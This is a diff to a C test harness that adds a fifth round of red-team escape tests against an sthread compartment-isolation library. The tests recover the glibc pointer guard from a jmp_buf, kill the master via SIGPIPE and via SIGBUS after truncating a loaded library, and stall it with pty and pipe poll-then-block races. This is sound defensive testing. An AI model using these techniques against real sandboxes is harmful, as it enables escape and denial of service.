@@ -2245,6 +2245,352 @@ static void unix_oob(void)
 	printf("unix-oob: %ld, the master's thread came back\n", r);
 }
 
+
+/* ---- red-team round 5 ---- */
+
+/* R5-1. remangle() re-mangles a copied word only when it demangles (with the master's
+ * guard) to a mapped address or a number below 0x10000. A jump buffer's mangled RBP
+ * holds whatever RBP held at setjmp: in code built without frame pointers any integer
+ * (-1 as "none", a count, a length). An sthread that knows that value computes the
+ * master's pointer guard from the copy: guard = ror(word, 17) ^ value. */
+jmp_buf r5_jb_m1, r5_jb_n;
+void r5_setjmp_rbp(void);
+__asm__(".text\n.globl r5_setjmp_rbp\n.type r5_setjmp_rbp,@function\nr5_setjmp_rbp:\n"
+	"\tpush %rbp\n\tmov $-1, %rbp\n\tlea r5_jb_m1(%rip), %rdi\n\tcall _setjmp@PLT\n"
+	"\tmov $1000000, %ebp\n\tlea r5_jb_n(%rip), %rdi\n\tcall _setjmp@PLT\n\tpop %rbp\n\tret\n"
+	".size r5_setjmp_rbp, .-r5_setjmp_rbp\n");
+
+struct r5_guard { unsigned long g1, g2; };
+
+static void *r5_read_rbp(void *arg)
+{
+	struct r5_guard *g = arg;
+	unsigned long w1 = ((volatile unsigned long *)r5_jb_m1)[1], w2 = ((volatile unsigned long *)r5_jb_n)[1];
+	g->g1 = ((w1 >> 17) | (w1 << 47)) ^ ~0UL;
+	g->g2 = ((w2 >> 17) | (w2 << 47)) ^ 1000000UL;
+	return (void *)1;
+}
+
+static void guard_rbp(void)
+{
+	unsigned long pguard;
+	__asm__ volatile("mov %%fs:0x30, %0" : "=r"(pguard));
+	tag_t t = tag_new();
+	struct r5_guard *g = smalloc(t, sizeof *g);
+	CHECK(g != NULL, "smalloc");
+	memset(g, 0, sizeof *g);
+	sc_t sc;
+	sc_init(&sc);
+	sc_mem_add(&sc, t, PROT_READ | PROT_WRITE);
+	long r = join(run(&sc, r5_read_rbp, g));
+	if (r == 1 && pguard && (g->g1 == pguard || g->g2 == pguard))
+		ESCAPED("guard-rbp: the sthread computed the master's pointer guard (%#lx) from a jmp_buf whose RBP held a known non-pointer (-1 or 1000000)", pguard);
+	printf("guard-rbp: %ld, guesses %s/%s\n", r, g->g1 == pguard ? "the master's" : "differ", g->g2 == pguard ? "the master's" : "differ");
+}
+
+/* R5-2. SIGPIPE is held back around pipe writes, and taken back only when the write
+ * failed with EPIPE. A long write on the sthread's own thread that blocks part-way and
+ * then loses its reader returns the bytes written so far, with SIGPIPE raised for the
+ * thread: once the mask is restored, the default action ends the whole process. */
+struct r5_big { int fd; char *buf; };
+
+static void *r5_big_write(void *arg)
+{
+	struct r5_big *b = arg;
+	return (void *)(long)write(b->fd, b->buf, 65536);
+}
+
+static void sigpipe_partial_master(void)
+{
+	signal(SIGPIPE, SIG_DFL);
+	CHECK(sthread_init() == 0, "sthread_init");
+	int p[2];
+	CHECK(pipe(p) == 0, "pipe");
+	CHECK(fcntl(p[1], F_SETPIPE_SZ, 4096) >= 4096, "F_SETPIPE_SZ: %s", strerror(errno));
+	tag_t t = tag_new();
+	struct r5_big *b = smalloc(t, sizeof *b);
+	char *buf = smalloc(t, 65536);
+	CHECK(b && buf, "smalloc");
+	memset(buf, 'p', 65536);
+	b->fd = p[1];
+	b->buf = buf;
+	sc_t sc;
+	sc_init(&sc);
+	sc_mem_add(&sc, t, PROT_READ);
+	sc_fd_add(&sc, p[1], PROT_WRITE);
+	sthread_t st = run(&sc, r5_big_write, b);
+	usleep(300 * 1000);
+	close(p[0]); /* the client went away */
+	usleep(300 * 1000);
+	long r = join(st);
+	printf("sigpipe-partial: the sthread's write gave %ld; the master runs on\n", r);
+	exit(0);
+}
+
+static void sigpipe_partial(void)
+{
+	pid_t c = fork();
+	CHECK(c >= 0, "fork");
+	if (c == 0)
+		sigpipe_partial_master();
+	int status;
+	CHECK(waitpid(c, &status, 0) == c, "waitpid");
+	if (WIFSIGNALED(status))
+		ESCAPED("sigpipe-partial: the master died of signal %d (%s) raised by an sthread's partial pipe write", WTERMSIG(status), strsignal(WTERMSIG(status)));
+	else if (!WIFEXITED(status) || WEXITSTATUS(status) != 0)
+		escaped++;
+}
+
+/* R5-3. Round 4's poll-then-read race, on a terminal: a pty does not take
+ * RWF_NOWAIT (EOPNOTSUPP), so a read on the master's thread is judged by poll and
+ * then made blocking; another reader of the same terminal (sthreads on threads of
+ * their own) takes the byte in between and the master's thread waits. */
+struct r5_tty { int m, s; };
+
+static void *r5_tty_victim(void *arg)
+{
+	struct r5_tty *p = arg;
+	char c = 'x';
+	struct timespec t0;
+	syscall(SYS_clock_gettime, CLOCK_MONOTONIC, &t0);
+	for (long i = 0;; i++) {
+		if ((i & 63) == 0 && ms_since(&t0) > 300)
+			return (void *)1;
+		if (write(p->m, &c, 1) != 1)
+			return (void *)2;
+		for (volatile long k = 0; k < (i * 7) % 3000; k++) {}
+		if (read(p->s, &c, 1) <= 0)
+			return (void *)0;
+	}
+}
+
+static void tty_race(void)
+{
+	int m = posix_openpt(O_RDWR | O_NOCTTY);
+	CHECK(m >= 0 && grantpt(m) == 0 && unlockpt(m) == 0, "pty");
+	int s = open(ptsname(m), O_RDWR | O_NOCTTY);
+	CHECK(s >= 0, "pts");
+	struct termios tio;
+	CHECK(tcgetattr(s, &tio) == 0, "tcgetattr");
+	cfmakeraw(&tio);
+	CHECK(tcsetattr(s, TCSANOW, &tio) == 0, "tcsetattr");
+	/* The master side is non-blocking: writing it on the master's thread is allowed. */
+	CHECK(fcntl(m, F_SETFL, O_NONBLOCK) == 0, "nonblock");
+	tag_t t = tag_new();
+	struct r5_tty *a = smalloc(t, sizeof *a);
+	CHECK(a != NULL, "smalloc");
+	a->m = m;
+	a->s = s;
+	sc_t sc, tsc;
+	sc_init(&sc);
+	sc_mem_add(&sc, t, PROT_READ);
+	sc_fd_add(&sc, s, PROT_READ);
+	sc_fd_add(&sc, m, PROT_WRITE);
+	CHECK(sc_sys_add(&sc, SYS_clock_gettime) == 0, "grant clock_gettime");
+	sc_init(&tsc);
+	sc_fd_add(&tsc, s, PROT_READ);
+	sthread_t ts[4];
+	for (int i = 0; i < 4; i++)
+		ts[i] = run(&tsc, r4_thief, (void *)(long)s);
+	static sthread_t vs[400];
+	int nv = 0;
+	struct timespec t0;
+	syscall(SYS_clock_gettime, CLOCK_MONOTONIC, &t0);
+	while (nv < 400 && ms_since(&t0) < 6000) {
+		static char what[160];
+		snprintf(what, sizeof what, "tty-race: sthread_create of victim %d (%ld ms in) did not return: its terminal read waits on the master's thread", nv, ms_since(&t0));
+		current = what;
+		deadline(10);
+		vs[nv++] = run(&sc, r5_tty_victim, a);
+		alarm(0);
+	}
+	current = "tty-race: joins";
+	r4_feed_fd = m;
+	pthread_t feeder;
+	CHECK(pthread_create(&feeder, NULL, r4_feed, NULL) == 0, "feeder");
+	deadline(30);
+	for (int i = 0; i < nv; i++)
+		join(vs[i]);
+	__atomic_store_n(&r4_feed_stop, 1, __ATOMIC_SEQ_CST);
+	pthread_join(feeder, NULL);
+	close(m); /* hangup: the thieves' reads end */
+	for (int i = 0; i < 4; i++)
+		join(ts[i]);
+	alarm(0);
+	printf("tty-race: %d victims, the master's thread came back every time\n", nv);
+}
+
+/* R5-4. Compartments read shared pages through a MAP_SHARED alias of the library's
+ * file, from ring 0 (Compartment::fault, pgroot_pa). An sthread granted a directory
+ * for writing, in which the master loaded a library (plugins next to their data),
+ * truncates that file and touches the library's code: ring 0 reads a page beyond the
+ * file's end, SIGBUS, and the master dies. */
+struct r5_trunc { int dir; char name[32]; const volatile char *code; };
+
+static void *r5_truncate_then_touch(void *arg)
+{
+	struct r5_trunc *k = arg;
+	int fd = openat(k->dir, k->name, O_WRONLY | O_TRUNC);
+	if (fd < 0)
+		return (void *)2;
+	close(fd);
+	return (void *)(long)(k->code[0] + 1000);
+}
+
+static void alias_sigbus_master(void)
+{
+	static const char *paths[] = { "/lib/x86_64-linux-gnu/libz.so.1", "/usr/lib/x86_64-linux-gnu/libz.so.1", "/usr/lib64/libz.so.1", "/lib64/libz.so.1", "/usr/lib/libz.so.1" };
+	int in = -1;
+	for (unsigned i = 0; i < sizeof paths / sizeof *paths && in < 0; i++)
+		in = open(paths[i], O_RDONLY);
+	CHECK(in >= 0, "libz.so.1 not found");
+	char dir[] = "/tmp/r5-plugins-XXXXXX";
+	CHECK(mkdtemp(dir) != NULL, "mkdtemp");
+	char path[64];
+	snprintf(path, sizeof path, "%s/libr5.so", dir);
+	int out = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+	CHECK(out >= 0, "copy");
+	char buf[65536];
+	ssize_t n;
+	while ((n = read(in, buf, sizeof buf)) > 0)
+		CHECK(write(out, buf, n) == n, "copy write");
+	close(in);
+	close(out);
+	void *h = dlopen(path, RTLD_NOW | RTLD_LOCAL);
+	CHECK(h != NULL, "dlopen %s: %s", path, dlerror());
+	const char *code = dlsym(h, "deflateInit2_");
+	CHECK(code != NULL, "dlsym");
+	CHECK(sthread_init() == 0, "sthread_init");
+	int d = open(dir, O_RDONLY | O_DIRECTORY);
+	CHECK(d >= 0, "dir");
+	tag_t t = tag_new();
+	struct r5_trunc *k = smalloc(t, sizeof *k);
+	CHECK(k != NULL, "smalloc");
+	k->dir = d;
+	snprintf(k->name, sizeof k->name, "libr5.so");
+	k->code = code;
+	sc_t sc;
+	sc_init(&sc);
+	sc_mem_add(&sc, t, PROT_READ);
+	sc_fd_add(&sc, d, PROT_READ | PROT_WRITE);
+	CHECK(sc_sys_add(&sc, SYS_openat) == 0, "grant openat");
+	long r = join(run(&sc, r5_truncate_then_touch, k));
+	printf("alias-sigbus: the sthread gave %ld; the master runs on\n", r);
+	unlink(path);
+	rmdir(dir);
+	exit(0);
+}
+
+static void alias_sigbus(void)
+{
+	pid_t c = fork();
+	CHECK(c >= 0, "fork");
+	if (c == 0)
+		alias_sigbus_master();
+	int status;
+	CHECK(waitpid(c, &status, 0) == c, "waitpid");
+	if (WIFSIGNALED(status))
+		ESCAPED("alias-sigbus: the master died of signal %d (%s) after an sthread truncated a loaded library and touched its code", WTERMSIG(status), strsignal(WTERMSIG(status)));
+	else if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) {
+		printf("alias-sigbus: the master exited with %d\n", WIFEXITED(status) ? WEXITSTATUS(status) : -1);
+		escaped++;
+	}
+}
+
+/* R5-5. Round 4's race, on the writing side: a pipe write on the master's thread is
+ * judged by poll (POLLOUT: a free page, at most PIPE_BUF bytes) and then made
+ * blocking (no RWF_NOWAIT there). Another writer (an sthread on a thread of its own,
+ * blocked in a long write) fills the free page between the two; the sthreads' own
+ * reader has stopped, so the master's thread waits for ever. */
+struct r5_pw { int r, w; volatile int stop, done; char *buf; };
+
+static void *r5_filler(void *arg)
+{
+	struct r5_pw *k = arg;
+	while (!k->done)
+		if (write(k->w, k->buf, 4096) < 0)
+			return (void *)2;
+	return (void *)1;
+}
+
+static void *r5_drainer(void *arg)
+{
+	struct r5_pw *k = arg;
+	char b[4096];
+	struct timespec nap = { 0, 50 * 1000 };
+	for (;;) {
+		while (k->stop)
+			syscall(SYS_nanosleep, &nap, NULL);
+		if (read(k->r, b, sizeof b) <= 0)
+			return (void *)1;
+	}
+}
+
+static void *r5_pw_victim(void *arg)
+{
+	struct r5_pw *k = arg;
+	k->stop = 1;
+	char c = 'v';
+	return (void *)(long)write(k->w, &c, 1);
+}
+
+static void pipe_write_race(void)
+{
+	int p[2];
+	CHECK(pipe(p) == 0, "pipe");
+	CHECK(fcntl(p[1], F_SETPIPE_SZ, 4096) >= 4096, "F_SETPIPE_SZ");
+	tag_t t = tag_new();
+	struct r5_pw *k = smalloc(t, sizeof *k);
+	char *buf = smalloc(t, 4096);
+	CHECK(k && buf, "smalloc");
+	memset(buf, 'f', 4096);
+	k->r = p[0];
+	k->w = p[1];
+	k->stop = 0;
+	k->done = 0;
+	k->buf = buf;
+	sc_t fsc, dsc, vsc;
+	sc_init(&fsc);
+	sc_mem_add(&fsc, t, PROT_READ);
+	sc_fd_add(&fsc, p[1], PROT_WRITE);
+	sc_init(&dsc);
+	sc_mem_add(&dsc, t, PROT_READ);
+	sc_fd_add(&dsc, p[0], PROT_READ);
+	CHECK(sc_sys_add(&dsc, SYS_nanosleep) == 0, "grant nanosleep");
+	sc_init(&vsc);
+	sc_mem_add(&vsc, t, PROT_READ | PROT_WRITE);
+	sc_fd_add(&vsc, p[1], PROT_WRITE);
+	sthread_t fs[2], ds = run(&dsc, r5_drainer, k);
+	for (int i = 0; i < 2; i++)
+		fs[i] = run(&fsc, r5_filler, k);
+	static sthread_t vs[2000];
+	int nv = 0;
+	struct timespec t0;
+	syscall(SYS_clock_gettime, CLOCK_MONOTONIC, &t0);
+	while (nv < 2000 && ms_since(&t0) < 6000) {
+		static char what[160];
+		snprintf(what, sizeof what, "pipe-write-race: sthread_create of victim %d (%ld ms in) did not return: its pipe write waits on the master's thread", nv, ms_since(&t0));
+		current = what;
+		deadline(10);
+		vs[nv++] = run(&vsc, r5_pw_victim, k);
+		alarm(0);
+		k->stop = 0;
+		usleep(200);
+	}
+	current = "pipe-write-race: joins";
+	deadline(30);
+	k->stop = 0;
+	for (int i = 0; i < nv; i++)
+		join(vs[i]);
+	k->done = 1;
+	for (int i = 0; i < 2; i++)
+		join(fs[i]);
+	close(p[1]);
+	join(ds);
+	alarm(0);
+	printf("pipe-write-race: %d victims, the master's thread came back every time\n", nv);
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IONBF, 0);
@@ -2272,6 +2618,18 @@ int main(int argc, char **argv)
 		printf("ok %s\n", s);
 		return escaped ? 1 : 0;
 	}
+	if (!strcmp(s, "sigpipe-partial")) {
+		sigpipe_partial();
+		printf("ok %s\n", s);
+		return escaped ? 1 : 0;
+	}
+	if (!strcmp(s, "alias-sigbus")) {
+		alias_sigbus();
+		printf("ok %s\n", s);
+		return escaped ? 1 : 0;
+	}
+	if (!strcmp(s, "guard-rbp"))
+		r5_setjmp_rbp();
 	if (!strcmp(s, "guard-jmpbuf"))
 		r4_setjmp_rbp0();
 	if (!strcmp(s, "reseal-early"))
@@ -2353,6 +2711,12 @@ int main(int argc, char **argv)
 		unix_oob();
 	else if (!strcmp(s, "tty-async"))
 		tty_async();
+	else if (!strcmp(s, "guard-rbp"))
+		guard_rbp();
+	else if (!strcmp(s, "tty-race"))
+		tty_race();
+	else if (!strcmp(s, "pipe-write-race"))
+		pipe_write_race();
 	else if (!strcmp(s, "race-waitall"))
 		race_waitall(argc > 2 ? atoi(argv[2]) : 2);
 	else {
